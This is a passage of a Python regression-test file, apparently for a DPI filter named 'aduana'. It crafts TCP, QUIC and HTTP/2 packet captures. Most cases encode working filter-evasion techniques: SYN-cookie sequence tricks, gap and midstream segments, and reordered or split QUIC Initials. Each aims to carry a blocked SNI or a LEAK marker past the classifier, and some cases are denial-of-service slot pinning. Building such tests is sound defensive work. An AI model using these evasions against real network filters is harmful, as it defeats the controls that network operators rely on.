    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    fill, tail = front_hello_around(n, hello(n, sni=EVIL, sid=sid32(leak(n))))
    x = (z + len(fill)) & 0xFFFFFFFF
    y = (yp + (x - z)) & 0xFFFFFFFF
    # the cookie ACK of ISN x: the listener creates connection x
    t.raw(True, "A", seq=(x + 1) & 0xFFFFFFFF, ack=(y + 1) & 0xFFFFFFFF)
    # the fill: to aduana the stream's first bytes; to connection x a duplicate
    t.raw(True, "PA", fill, seq=(z + 1) & 0xFFFFFFFF, ack=(yp + 1) & 0xFFFFFFFF)
    t.raw(False, "A", seq=(y + 1) & 0xFFFFFFFF, ack=(x + 1) & 0xFFFFFFFF)   # its dup ACK
    # the exfil hello at x+1 with the old ACK yp+1
    t.raw(True, "PA", tail, seq=(x + 1) & 0xFFFFFFFF, ack=(yp + 1) & 0xFFFFFFFF)
    nxt = (x + 1 + len(tail)) & 0xFFFFFFFF
    t.raw(False, "A", seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
    t.raw(False, "PA", server_hello_flight(n), seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
    return cap, {"leak": [leak(n)]}


@case
def case_slot_pin_v6_neighbor_ok(n, pins=1300):
    """Must-allow, denial of service by one inside host against its IPv6 neighbours:
    slot_pin_fast_ok over IPv6. The attacker 2001:db8:e2::99 sends 1300 hop-limit-1
    ClientHellos for e2m within about a second (all fresh). A source is an IPv6 /64, and
    a /64 is a LAN: the attacker's 64 counted slots fill the share of every host on its
    link. Then an honest session of 2001:db8:e2::10 (another host on the same /64): its
    handshake is proven, but its source holds its share, so it may take only a slot held
    over 5 s; there is none: refused (exception:classifier_alloc)."""
    cap = Capture()
    pin_flows(cap, n, "2001:db8:e2::99", pins, E2M6)
    honest_session(cap, n, 46802, 6802, host=S6, dst=E2M6)
    return cap, {"pass": [passm(n)]}


@case
def case_slot_pin_v6_neighbor_ctl_ok(n, pins=1300):
    """Control of slot_pin_v6_neighbor_ok: the same pin, the honest host in another /64 of
    the zone (2001:db8:e2:1::10): allowed (it takes an uncounted slot of the attacker)."""
    cap = Capture()
    pin_flows(cap, n, "2001:db8:e2::99", pins, E2M6)
    honest_session(cap, n, 46803, 6803, host="2001:db8:e2:1::10", dst=E2M6)
    return cap, {"pass": [passm(n)]}


@case
def case_slot_pin_cursor_ok(n, pins=1304):
    """Must-allow, denial of service by one inside IPv4 host: slot_pin_fast_ok with 1304
    pins instead of 1300. The attacker's first 64 hellos are proven and within its share:
    counted, in slots 0..63 (the pool hands out slots in order). Its next 448 fill the pool
    uncounted; each of its 792 more finds the pool full and scans 64 slots for a stale one
    (none), which moves the scan cursor on by 64: 792 = 99 * 8 scans of a 512-slot pool
    leave it at slot 0. The honest session of another host (10.10.1.11), proven and within
    its share, scans slots 0..63: all counted, none stale, so none to take: refused
    (exception:classifier_alloc). The scan window (64) is exactly one source's share (512 /
    8), so one host's counted slots can fill it, and the host moves the cursor itself."""
    cap = Capture()
    pin_flows(cap, n, S1, pins, E2M)
    honest_session(cap, n, 46804, 6804, host="10.10.1.11")
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ red team round 17 (attacking f8295a0)

@case
def case_office_cookie_gap_social(n):
    """Office client alone, an outside web server in SYN-cookie mode (Linux msstab: MSS
    1460 is index 3). One SYN (ISN z), the cookie SYN-ACK yp (ack z+1). The client never
    sends a byte at z+1: it sends the m.vk.com hello (LEAK in its session id) at z+4 with
    ACK yp+1, the responder's next byte, so the pre-verdict ACK rule takes it. To the
    listener that ACK is the cookie of ISN z+3 (a cookie holds for its MSS index below
    it: 3 - 3 = 0, MSS 536), so it creates the connection of ISN z+3 and reads the hello
    as its first bytes; the server answers. To aduana the segment lies 3 bytes past the
    stream's start: on an unchecked (office) flow a segment ahead of a gap is forwarded
    unread (TCP_SKIP), the hole at z+1 is never filled, and the flow is given up
    (on_giveup allow): the social block never sees the name."""
    cap = Capture()
    z = 0x3E000000
    yp = 0x71234567
    t = ETcp(cap, O1, 46901, SOC, 443, isn=z, rtt_us=20000)
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    h = hello(n, sni=VK, sid=sid32(leak(n)))
    x1 = (z + 4) & 0xFFFFFFFF
    t.raw(True, "PA", h, seq=x1, ack=yp + 1)
    nxt = (x1 + len(h)) & 0xFFFFFFFF
    t.raw(False, "A", seq=yp + 1, ack=nxt)
    fl = server_hello_flight(n)
    t.raw(False, "PA", fl, seq=yp + 1, ack=nxt)
    t.raw(True, "A", seq=nxt, ack=yp + 1 + len(fl))
    t.raw(True, "PA", CCS + tls_appdata(n + "fin", 53), seq=nxt, ack=yp + 1 + len(fl))
    return cap, {"leak": [leak(n)]}


@case
def case_office_gap_social_ctl(n):
    """Control for office_cookie_gap_social: the same hello at z+1 (no gap) is blocked."""
    cap = Capture()
    z = 0x3E100000
    yp = 0x71334567
    t = ETcp(cap, O1, 46902, SOC, 443, isn=z, rtt_us=20000)
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    h = hello(n, sni=VK, sid=sid32(leak(n)))
    t.raw(True, "PA", h, seq=z + 1, ack=yp + 1)
    nxt = (z + 1 + len(h)) & 0xFFFFFFFF
    t.raw(False, "A", seq=yp + 1, ack=nxt)
    t.raw(False, "PA", server_hello_flight(n), seq=yp + 1, ack=nxt)
    return cap, {"leak": [leak(n)]}


@case
def case_hello_lost_synack_dup_ok(n):
    """Honest, two losses: the client's handshake ACK is lost after aduana and its
    ClientHello before aduana (WiFi on the inside). The server retransmits its SYN-ACK
    (same ISN); the client answers with a duplicate ACK at its snd_nxt (start + the hello's
    length), then retransmits the hello at start. To aduana that bare ACK comes while no
    initiator byte was read and its sequence number is not the stream's start: dropped,
    exception:ambiguous, and the strict zone drops the flow with the hello behind it."""
    cap = Capture()
    t = ETcp(cap, S1, 46920, E2M, 443, isn=9300, rtt_us=20000)
    t.handshake()
    start = t.cseq
    h = hello(n)
    t.raw(False, "SA", seq=t.sseq - 1, ack=start, options=SYN_OPTS, gap=1000000)
    t.raw(True, "A", seq=start + len(h), ack=t.sseq)
    t.raw(True, "PA", h, seq=start, ack=t.sseq, gap=200000)
    t.cseq = start + len(h)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53) + marked_record(passm(n), n))
    return cap, {"pass": [passm(n)]}


@case
def case_front_cookie_gap_fill(n):
    """Strict twin of office_cookie_gap_social (what held): the exfil hello at z+4 with ACK
    yp+1 to the shared front in cookie mode; a checked flow drops a segment ahead of a gap
    before the verdict."""
    cap = Capture()
    z = 0x3E200000
    yp = 0x71434567
    t = ETcp(cap, S1, 46903, FRONT, 443, isn=z, rtt_us=20000)
    t.raw(True, "S", seq=z, options=SYN_OPTS)
    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
    h = hello(n, sni=EVIL, sid=sid32(leak(n)))
    x1 = (z + 4) & 0xFFFFFFFF
    t.raw(True, "PA", h, seq=x1, ack=yp + 1)
    nxt = (x1 + len(h)) & 0xFFFFFFFF
    t.raw(False, "A", seq=yp + 1, ack=nxt)
    t.raw(False, "PA", server_hello_flight(n), seq=yp + 1, ack=nxt)
    return cap, {"leak": [leak(n)]}


# --- midstream pickups on ports where a connection ended for us (tomb.h, "Midstream")

def office_gap_pickup(n, cport, wait_s, vlans_old=(), vlans_new=(), split=40):
    """An office client's m.vk.com hello, dropped as social; after wait_s (the flow
    forgotten: dropped, 10 s) or at once on another VLAN, the hello's tail past `split`
    without a SYN, then its head: the server's connection still waits at the hello's
    first byte, queues the tail and reads the whole hello once the head fills the gap.
    split 0: the hello again from its first byte (the control)."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=0x2000 + cport, rtt_us=2000, vlans=vlans_old)
    t.handshake()
    h = hello(n, sni=VK, sid=sid32(leak(n)))
    st = t.cseq
    t.raw(True, "PA", h)
    if wait_s:
        cap.idle(wait_s)
    t.vlans = vlans_new
    if split:
        t.raw(True, "PA", h[split:], seq=st + split)
        t.raw(True, "PA", h[:split], seq=st)
    else:
        t.raw(True, "PA", h, seq=st)
    t.cseq = st + len(h)
    t.raw(False, "A")
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53) + marked_record(leak(n), n))
    return cap, {"leak": [leak(n)]}


@case
def case_office_mid_gap_social(n):
    """Office: the m.vk.com hello dropped as social; 30 s later (the dropped flow forgotten
    after 10 s) its tail without a SYN, then its head. To aduana the tail was a midstream
    pickup's first bytes (unreadable: given up, allowed in the office) and the head a
    retransmission before them; to the server, the hello in two pieces."""
    return office_gap_pickup(n, 47101, 30)


@case
def case_office_mid_retry_ctl(n):
    """Control: the same, the hello sent again whole from its first byte: social."""
    return office_gap_pickup(n, 47102, 30, split=0)


@case
def case_office_mid_vlan_social(n):
    """The gap pickup at once, on VLAN 20, while the dropped flow of VLAN 10 is live (a
    router behind us strips the tags: one connection at the server)."""
    return office_gap_pickup(n, 47103, 0, vlans_old=((0x8100, 10),), vlans_new=((0x8100, 20),))


@case
def case_office_idle_resume_ok(n):
    """Must pass: an office session to an unclassed name (www.example.org, allowed), idle
    3601 s (past aduana's tcp timeout; Linux keeps it), then the client resumes without a
    SYN at its next byte. The old connection ended allowed: the pickup is taken."""
    cap = Capture()
    t = ETcp(cap, O1, 47104, SOC, 443, isn=0x47104, rtt_us=2000)
    t.handshake()
    t.data(True, hello(n, sni="www.example.org"))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    cap.idle(3601)
    t.data(True, marked_record(passm(n), n))
    t.data(False, tls_appdata(n + "resp", 300))
    return cap, {"pass": [passm(n)]}



@case
def case_office_idle_srvfirst_ok(n):
    """Must pass (round 19's F9): office_idle_resume_ok with the server speaking first
    after the idle (a mail server's IDLE push, a keep-alive with a byte). Our entry is
    gone; the server's segment would open an inbound flow, which the office drops. The
    ports' connection ended allowed, so the segment resumes the inside host's flow."""
    cap = Capture()
    t = ETcp(cap, O1, 47106, SOC, 443, isn=0x47106, rtt_us=2000)
    t.handshake()
    t.data(True, hello(n, sni="www.example.org"))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    cap.idle(3601)
    t.data(False, marked_record(passm(n), n + "s"))
    t.data(True, marked_record(passm(n), n))
    return cap, {"pass": [passm(n)]}


@case
def case_office_idle_srvfirst_soc(n):
    """Must drop (twin of office_idle_srvfirst_ok): the office session that ended was
    www.facebook.com, dropped as social. After the idle its server speaks first: the
    ports' connection did not end allowed, so the segment opens no flow of the inside
    host's (inbound, or a midstream pickup refused): nothing of it reaches the client."""
    cap = Capture()
    t = ETcp(cap, O1, 47107, SOC, 443, isn=0x47107, rtt_us=2000)
    t.handshake()
    t.data(True, hello(n, sni="www.facebook.com"))
    cap.idle(3601)
    t.data(False, marked_record(leak(n), n + "s"))
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------ red team round 18 (attacking c96a06a)
#
# QUIC v1 Initial packets (RFC 9000, RFC 9001), built and protected by hand so that the
# CRYPTO stream can be cut and ordered as real clients cut and order it. A QUIC server
# (quiche, ngtcp2, lsquic, Go quic-go, Chrome's own) reassembles the CRYPTO stream by
# offset across frames and across Initial packets before TLS reads the ClientHello
# (RFC 9000 19.6: "the stream does not have an explicit end ... data is delivered in
# order"). Chrome since 2023 sends ClientHellos over 1200 bytes (the ML-KEM key share)
# across two Initial packets, and "chaos protection" (Chrome 116+) cuts its CRYPTO data
# into several frames in random order with PING and PADDING between them.

from cryptography.hazmat.primitives import hashes as _qh  # noqa: E402
from cryptography.hazmat.primitives import hmac as _qhmac  # noqa: E402
from cryptography.hazmat.primitives.ciphers import Cipher as _QCipher, algorithms as _qalg, modes as _qmodes  # noqa: E402
from cryptography.hazmat.primitives.ciphers.aead import AESGCM as _QAESGCM  # noqa: E402

QUIC_V1_SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")


def _q_hkdf_extract(salt, ikm):
    h = _qhmac.HMAC(salt, _qh.SHA256())
    h.update(ikm)
    return h.finalize()


def _q_hkdf_expand_label(secret, label, length):
    full = b"tls13 " + label
    info = struct.pack("!H", length) + bytes([len(full)]) + full + b"\x00"
    out, t, i = b"", b"", 1
    while len(out) < length:
        h = _qhmac.HMAC(secret, _qh.SHA256())
        h.update(t + info + bytes([i]))
        t = h.finalize()
        out += t
        i += 1
    return out[:length]


def _q_varint(v):
    if v < 0x40:
        return bytes([v])
    if v < 0x4000:
        return struct.pack("!H", 0x4000 | v)
    return struct.pack("!I", 0x80000000 | v)


def quic_crypto_frame(offset, data):
    return b"\x06" + _q_varint(offset) + _q_varint(len(data)) + data


def _q_protect(dcid, scid, pn, frames, salt, labels, b0, version, token=b"", pad_to=1200,
               key_dcid=None, client=True):
    """One protected client (or server) Initial: keys from key_dcid or dcid under the
    version's salt and labels (RFC 9001 5.2, RFC 9369 3.3), first byte b0 (form, QUIC bit,
    type; the packet number length is added), padded with PADDING frames so that the
    datagram is at least pad_to bytes (RFC 9000 14.1), header protection applied."""
    secret = _q_hkdf_extract(salt, key_dcid or dcid)
    secret = _q_hkdf_expand_label(secret, b"client in" if client else b"server in", 32)
    key = _q_hkdf_expand_label(secret, labels + b" key", 16)
    iv = _q_hkdf_expand_label(secret, labels + b" iv", 12)
    hp = _q_hkdf_expand_label(secret, labels + b" hp", 16)
    pn_len = 4
    head = (bytes([b0 | (pn_len - 1)]) + struct.pack("!I", version) + bytes([len(dcid)]) + dcid
            + bytes([len(scid)]) + scid + _q_varint(len(token)) + token)
    plain = frames
    # the Length field: packet number + payload + AEAD tag; a 2-byte varint always
    total = len(head) + 2 + pn_len + len(plain) + 16
    if total < pad_to:
        plain += b"\x00" * (pad_to - total)
    length = pn_len + len(plain) + 16
    assert length < 0x4000
    hdr = head + struct.pack("!H", 0x4000 | length) + struct.pack("!I", pn)
    nonce = bytes(a ^ b for a, b in zip(iv, b"\x00" * 8 + struct.pack("!I", pn)))
    ct = _QAESGCM(key).encrypt(nonce, plain, hdr)
    pn_off = len(hdr) - pn_len
    sample = ct[4 - pn_len:4 - pn_len + 16]
    enc = _QCipher(_qalg.AES(hp), _qmodes.ECB()).encryptor()
    mask = enc.update(sample) + enc.finalize()
    hdr = bytearray(hdr)
    hdr[0] ^= mask[0] & 0x0F
    for i in range(pn_len):
        hdr[pn_off + i] ^= mask[1 + i]
    return bytes(hdr) + ct


def quic_initial(dcid, scid, pn, frames, client=True, pad_to=1200, key_dcid=None):
    """One protected QUIC v1 Initial packet carrying `frames` (bytes), padded to pad_to.
    key_dcid: the DCID the keys come from (the client's first, RFC 9001 5.2: its
    later Initials carry the server's connection ID and keep those keys)."""
    return _q_protect(dcid, scid, pn, frames, QUIC_V1_SALT, b"quic", 0xC0, 1, pad_to=pad_to,
                      key_dcid=key_dcid, client=client)


def quic_hs_hello(seed, sni, pad=0):
    """A QUIC ClientHello handshake message: h3 ALPN, TLS 1.3 only, the
    quic_transport_parameters extension (0x39), and a padding extension of `pad` bytes
    (a large key share, as an ML-KEM hybrid one makes it, without the bulk)."""
    tp = b"\x01\x04\x80\x00\x75\x30" + b"\x04\x04\x80\x10\x00\x00" + b"\x0f\x08" + prand(seed + "scid", 8)
    exts = [sni_ext([sni_entry(sni.encode())]),
            ext(10, struct.pack("!HH", 2, 29)),
            ext(13, struct.pack("!H", 6) + struct.pack("!3H", 0x0403, 0x0804, 0x0401)),
            ext(43, b"\x02\x03\x04"),
            ext(51, struct.pack("!H", 36) + struct.pack("!HH", 29, 32) + prand(seed + "k", 32)),
            ext(45, b"\x01\x01"),
            ext(0x39, tp),
            ext(16, struct.pack("!H", 3) + b"\x02h3")]
    if pad:
        exts.append(ext(21, b"\x00" * pad))
    eb = b"".join(exts)
    ciphers = struct.pack("!3H", 0x1301, 0x1302, 0x1303)
    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x00"
            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00"
            + struct.pack("!H", len(eb)) + eb)
    return b"\x01" + struct.pack("!I", len(body))[1:] + body


def quic_flow(cap, n, cport, client_dgrams, dst=None, src=None):
    """The client's Initial datagrams, the server's answer (opaque bytes in a long
    header Handshake-type packet: not parsed by anyone here), then two client 1-RTT
    (short header) datagrams; the second carries the LEAK marker."""
    src = src or O1
    dst = dst or SOC
    for d in client_dgrams:
        udp(cap, src, cport, dst, 443, d, gap=2000)
    udp(cap, dst, 443, src, cport, b"\xe0\x00\x00\x00\x01\x08" + prand(n + "sd", 8) + b"\x08"
        + prand(n + "ss", 8) + prand(n + "srv", 1150), gap=20000)
    udp(cap, src, cport, dst, 443, b"\x40" + prand(n + "sd", 8) + prand(n + "c1", 300), gap=20000)
    udp(cap, src, cport, dst, 443, b"\x41" + prand(n + "sd", 8) + leak(n) + prand(n + "c2", 300), gap=20000)


def _q_ids(n):
    return prand(n + "dcid", 8), prand(n + "scid", 8)


@case
def case_quic_fb_ctl(n):
    """Control: office, a QUIC v1 Initial to an outside server's UDP 443 whose ClientHello
    (www.facebook.com, social by nDPI's host table) sits in one CRYPTO frame at offset 0,
    in one packet: nDPI 4.2 decrypts the Initial and reads the SNI; the office blocks
    social, so the flow is dropped and its later datagrams (LEAK) never pass."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    quic_flow(cap, n, 48001, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m))])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_chaos_fb(n):
    """Office, QUIC: the same ClientHello cut into two CRYPTO frames inside one Initial
    packet, the second half first with a PING between them (Chrome's "chaos protection"
    sends its CRYPTO data exactly like this). Every QUIC server orders CRYPTO data by its
    offset (RFC 9000 19.6) and reads www.facebook.com. nDPI 4.2 reads the first CRYPTO
    frame it meets as the start of a ClientHello; aduana has no QUIC reader of its own
    (classifiers/tls.c reads TCP streams only), so no name is read, the office gives up
    and allows, and the LEAK datagram passes."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    cut = m.find(FB.encode()) + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    quic_flow(cap, n, 48002, [quic_initial(dcid, scid, 0, frames)])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_twopkt_fb(n):
    """Office, QUIC: a ClientHello of about 1700 bytes (a post-quantum key share, as Chrome
    124+ and Firefox 132+ send by default) in two Initial packets, each its own datagram:
    CRYPTO [0, 1000) in the first, [1000, end) in the second. The server reassembles the
    CRYPTO stream across packets and reads www.facebook.com; nDPI 4.2 reads one packet's
    CRYPTO frame alone, finds a truncated ClientHello, and never sees the name."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB, pad=1500)
    cut = 1000
    assert m.find(FB.encode()) < cut
    # the name itself in the first packet: only the reassembly of the rest is missing
    quic_flow(cap, n, 48003, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut])),
                              quic_initial(dcid, scid, 1, quic_crypto_frame(cut, m[cut:]))])
    return cap, {"leak": [leak(n)]}


QUIC_V2_SALT = bytes.fromhex("0dede3def700a6db819381be6e269dcbf9bd2ed9")


def quic_v2_initial(dcid, scid, pn, frames, pad_to=1200):
    """A client Initial of QUIC version 2 (RFC 9369): another version number, salt and
    labels ("quicv2 ..."), and the Initial packet type 0b01."""
    return _q_protect(dcid, scid, pn, frames, QUIC_V2_SALT, b"quicv2", 0xD0, 0x6B3343CF,
                      pad_to=pad_to)


def quic_hs_hello_sni_last(seed, sni, pad):
    """quic_hs_hello with the server_name extension last, after `pad` bytes of padding
    (Chrome permutes its extensions at random: with an ML-KEM key share of 1216 bytes the
    name often lands past the first packet's 1200 bytes)."""
    tp = b"\x01\x04\x80\x00\x75\x30" + b"\x04\x04\x80\x10\x00\x00" + b"\x0f\x08" + prand(seed + "scid", 8)
    exts = [ext(10, struct.pack("!HH", 2, 29)),
            ext(13, struct.pack("!H", 6) + struct.pack("!3H", 0x0403, 0x0804, 0x0401)),
            ext(43, b"\x02\x03\x04"),
            ext(51, struct.pack("!H", 36) + struct.pack("!HH", 29, 32) + prand(seed + "k", 32)),
            ext(45, b"\x01\x01"),
            ext(0x39, tp),
            ext(16, struct.pack("!H", 3) + b"\x02h3"),
            ext(21, b"\x00" * pad),
            sni_ext([sni_entry(sni.encode())])]
    eb = b"".join(exts)
    ciphers = struct.pack("!3H", 0x1301, 0x1302, 0x1303)
    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x00"
            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00"
            + struct.pack("!H", len(eb)) + eb)
    return b"\x01" + struct.pack("!I", len(body))[1:] + body


@case
def case_quic_twopkt_name2_fb(n):
    """Office, QUIC: a 1.7 KB ClientHello over two Initial packets, the server_name
    extension in the second (CRYPTO [1000, end)). The server reads www.facebook.com once
    the CRYPTO stream is whole; nDPI 4.2 reads the first packet's CRYPTO frame alone (a
    truncated hello without a name) and never joins the second."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello_sni_last(n, FB, 1500)
    cut = 1000
    assert m.find(FB.encode()) > cut
    quic_flow(cap, n, 48004, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut])),
                              quic_initial(dcid, scid, 1, quic_crypto_frame(cut, m[cut:]))])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_v2_fb(n):
    """Office, QUIC version 2 (RFC 9369, 2023; quic-go, ngtcp2, picoquic, and Chrome behind
    compatible version negotiation): the www.facebook.com ClientHello in one CRYPTO frame
    of one v2 Initial. nDPI 4.2 predates v2: it has neither its salt nor its labels, so it
    decrypts nothing and reads no name; a v2 server reads the name as any."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    quic_flow(cap, n, 48005, [quic_v2_initial(dcid, scid, 0, quic_crypto_frame(0, m))])
    return cap, {"leak": [leak(n)]}


def quic_flow_pass(cap, n, cport, client_dgrams):
    src, dst = O1, SOC
    for d in client_dgrams:
        udp(cap, src, cport, dst, 443, d, gap=2000)
    udp(cap, dst, 443, src, cport, b"\xe0\x00\x00\x00\x01\x08" + prand(n + "sd", 8) + b"\x08"
        + prand(n + "ss", 8) + prand(n + "srv", 1150), gap=20000)
    udp(cap, src, cport, dst, 443, b"\x41" + prand(n + "sd", 8) + passm(n) + prand(n + "c2", 300), gap=20000)
    udp(cap, dst, 443, src, cport, b"\x41" + prand(n + "sc", 8) + passm(n) + prand(n + "s2", 300), gap=20000)


@case
def case_quic_chaos_ok(n):
    """Must-allow twin of quic_chaos_fb: Chrome's chaos-protected Initial (two CRYPTO
    frames, second half first, a PING between) for www.example.org (no class) from the
    office: allowed, its 1-RTT datagrams pass both ways. A fix that reads the CRYPTO stream
    must not refuse out-of-order frames."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, "www.example.org")
    cut = m.find(b"www.example.org") + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    quic_flow_pass(cap, n, 48006, [quic_initial(dcid, scid, 0, frames)])
    return cap, {"pass": [passm(n)]}


@case
def case_quic_twopkt_ok(n):
    """Must-allow twin of quic_twopkt_name2_fb: www.example.org, its name in the second of
    two Initial packets: allowed."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello_sni_last(n, "www.example.org", 1500)
    quic_flow_pass(cap, n, 48007, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:1000])),
                                   quic_initial(dcid, scid, 1, quic_crypto_frame(1000, m[1000:]))])
    return cap, {"pass": [passm(n)]}


@case
def case_quic_twopkt_rev_fb(n):
    """Office, QUIC: quic_twopkt_fb's two Initial packets in the other order (the second,
    CRYPTO [1000, end), first: a client may send them so, and any path may reorder two
    datagrams). The server buffers CRYPTO data ahead of its offset and reads the hello
    once [0, 1000) comes; the name lies in the packet that comes second."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB, pad=1500)
    cut = 1000
    quic_flow(cap, n, 48008, [quic_initial(dcid, scid, 1, quic_crypto_frame(cut, m[cut:])),
                              quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut]))])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_chaos_inorder_fb(n):
    """Office, QUIC: the ClientHello in three CRYPTO frames of one Initial, in order, with
    PING and PADDING frames between them (chaos protection without the reordering)."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    a = m.find(FB.encode()) - 3
    b = a + 10
    frames = (quic_crypto_frame(0, m[:a]) + b"\x01" + b"\x00" * 7 + quic_crypto_frame(a, m[a:b])
              + b"\x01\x01" + quic_crypto_frame(b, m[b:]))
    quic_flow(cap, n, 48009, [quic_initial(dcid, scid, 0, frames)])
    return cap, {"leak": [leak(n)]}


# --- HTTP/2 with prior knowledge (h2c, RFC 9113 3.3) on the office's port 80

def h2_frame(ftype, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", stream) + payload


def h2c_request(authority, marker):
    """The client preface, an empty SETTINGS frame, and one HEADERS frame (END_STREAM,
    END_HEADERS) for GET http://<authority>/ in HPACK without Huffman coding: :method GET,
    :scheme http, :path / from the static table, :authority a literal without indexing
    (name index 1), and x-mark: <marker> as a new literal."""
    hb = (b"\x82\x86\x84" + b"\x01" + bytes([len(authority)]) + authority
          + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)
    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
            + h2_frame(1, 5, 1, hb))


@case
def case_app_h2c_vk(n):
    """Office: HTTP/2 with prior knowledge on port 80 (nginx `listen 80; http2 on;`,
    h2o, Caddy, Envoy, Go's h2c): the preface, then a HEADERS frame whose :authority is
    m.vk.com. The server picks its virtual host by :authority (RFC 9113 8.3.1) and serves
    m.vk.com. aduana's HTTP reader (hs.c) takes "PRI * HTTP/2.0" for a request line, finds
    no Host line and reads no name; nDPI 4.2 decodes no HPACK: no class, the office
    allows, the LEAK header and the answer pass."""
    cap = Capture()
    http_flow(cap, 48101, 4810, 80, h2c_request(b"m.vk.com", leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_app_h2c_ok(n):
    """Must-allow twin of app_h2c_vk: the same h2c request for www.example.org (no class)."""
    cap = Capture()
    t = ETcp(cap, O1, 48102, SOC, 80, isn=4811, rtt_us=20000)
    t.handshake()
    t.data(True, h2c_request(b"www.example.org", passm(n)))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


# --- QUIC: a second connection on the ports of an allowed one (a UDP flow is a 5-tuple)

def quic_two_conns(n, cport, second, gap_s=0, after_1rtt=False):
    """Office: a QUIC connection for www.example.org (allowed), then on the same ports a
    second connection's Initial for www.facebook.com: `second` is "new" (another DCID:
    its own keys) or "same" (the first DCID again, once the server dropped the first
    connection: the same keys, another hello at offset 0). Its 1-RTT datagram (LEAK)
    follows."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    ok = quic_hs_hello(n, "www.example.org")
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, ok)), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\xe0\x00\x00\x00\x01\x08" + prand(n + "sd", 8) + b"\x08"
        + prand(n + "ss", 8) + prand(n + "srv", 1150), gap=20000)
    if after_1rtt:
        udp(cap, O1, cport, SOC, 443, b"\x40" + prand(n + "sd", 8) + prand(n + "c1", 300), gap=20000)
    if gap_s:
        cap.idle(gap_s)
    d2 = prand(n + "dcid2", 8) if second == "new" else dcid
    fb = quic_hs_hello(n + "b", FB)
    udp(cap, O1, cport, SOC, 443, quic_initial(d2, scid, 0, quic_crypto_frame(0, fb)), gap=2000)
    udp(cap, O1, cport, SOC, 443, b"\x41" + prand(n + "sd2", 8) + leak(n) + prand(n + "c2", 300), gap=20000)
    return cap, {"leak": [leak(n)]}


@case
def case_quic_conn2_new_fb(n):
    """A second connection (another DCID, so other Initial keys) on the ports of an
    allowed one, during its handshake: the server reads the second hello; to a reader
    of the first datagram alone the flow was decided."""
    return quic_two_conns(n, 48201, "new")


@case
def case_quic_conn2_same_fb(n):
    """The first connection's DCID again, 3 s later (the server closed the first one:
    an unknown SNI): the same Initial keys, another ClientHello at CRYPTO offset 0."""
    return quic_two_conns(n, 48202, "same", gap_s=3)


@case
def case_quic_conn2_after_fb(n):
    """A second connection's Initial after the first one's 1-RTT packets."""
    return quic_two_conns(n, 48203, "new", after_1rtt=True)


@case
def case_quic_ack_initial_ok(n):
    """Must pass: the client's second Initial of the same connection (an ACK of the
    server's Initial, under the first keys, to the server's connection ID), coalesced
    with a Handshake packet; then 1-RTT both ways."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    srv = prand(n + "srvcid", 8)
    ok = quic_hs_hello(n, "www.example.org")
    udp(cap, O1, 48204, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, ok)), gap=2000)
    udp(cap, SOC, 443, O1, 48204, b"\xc0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srv", 1150), gap=20000)
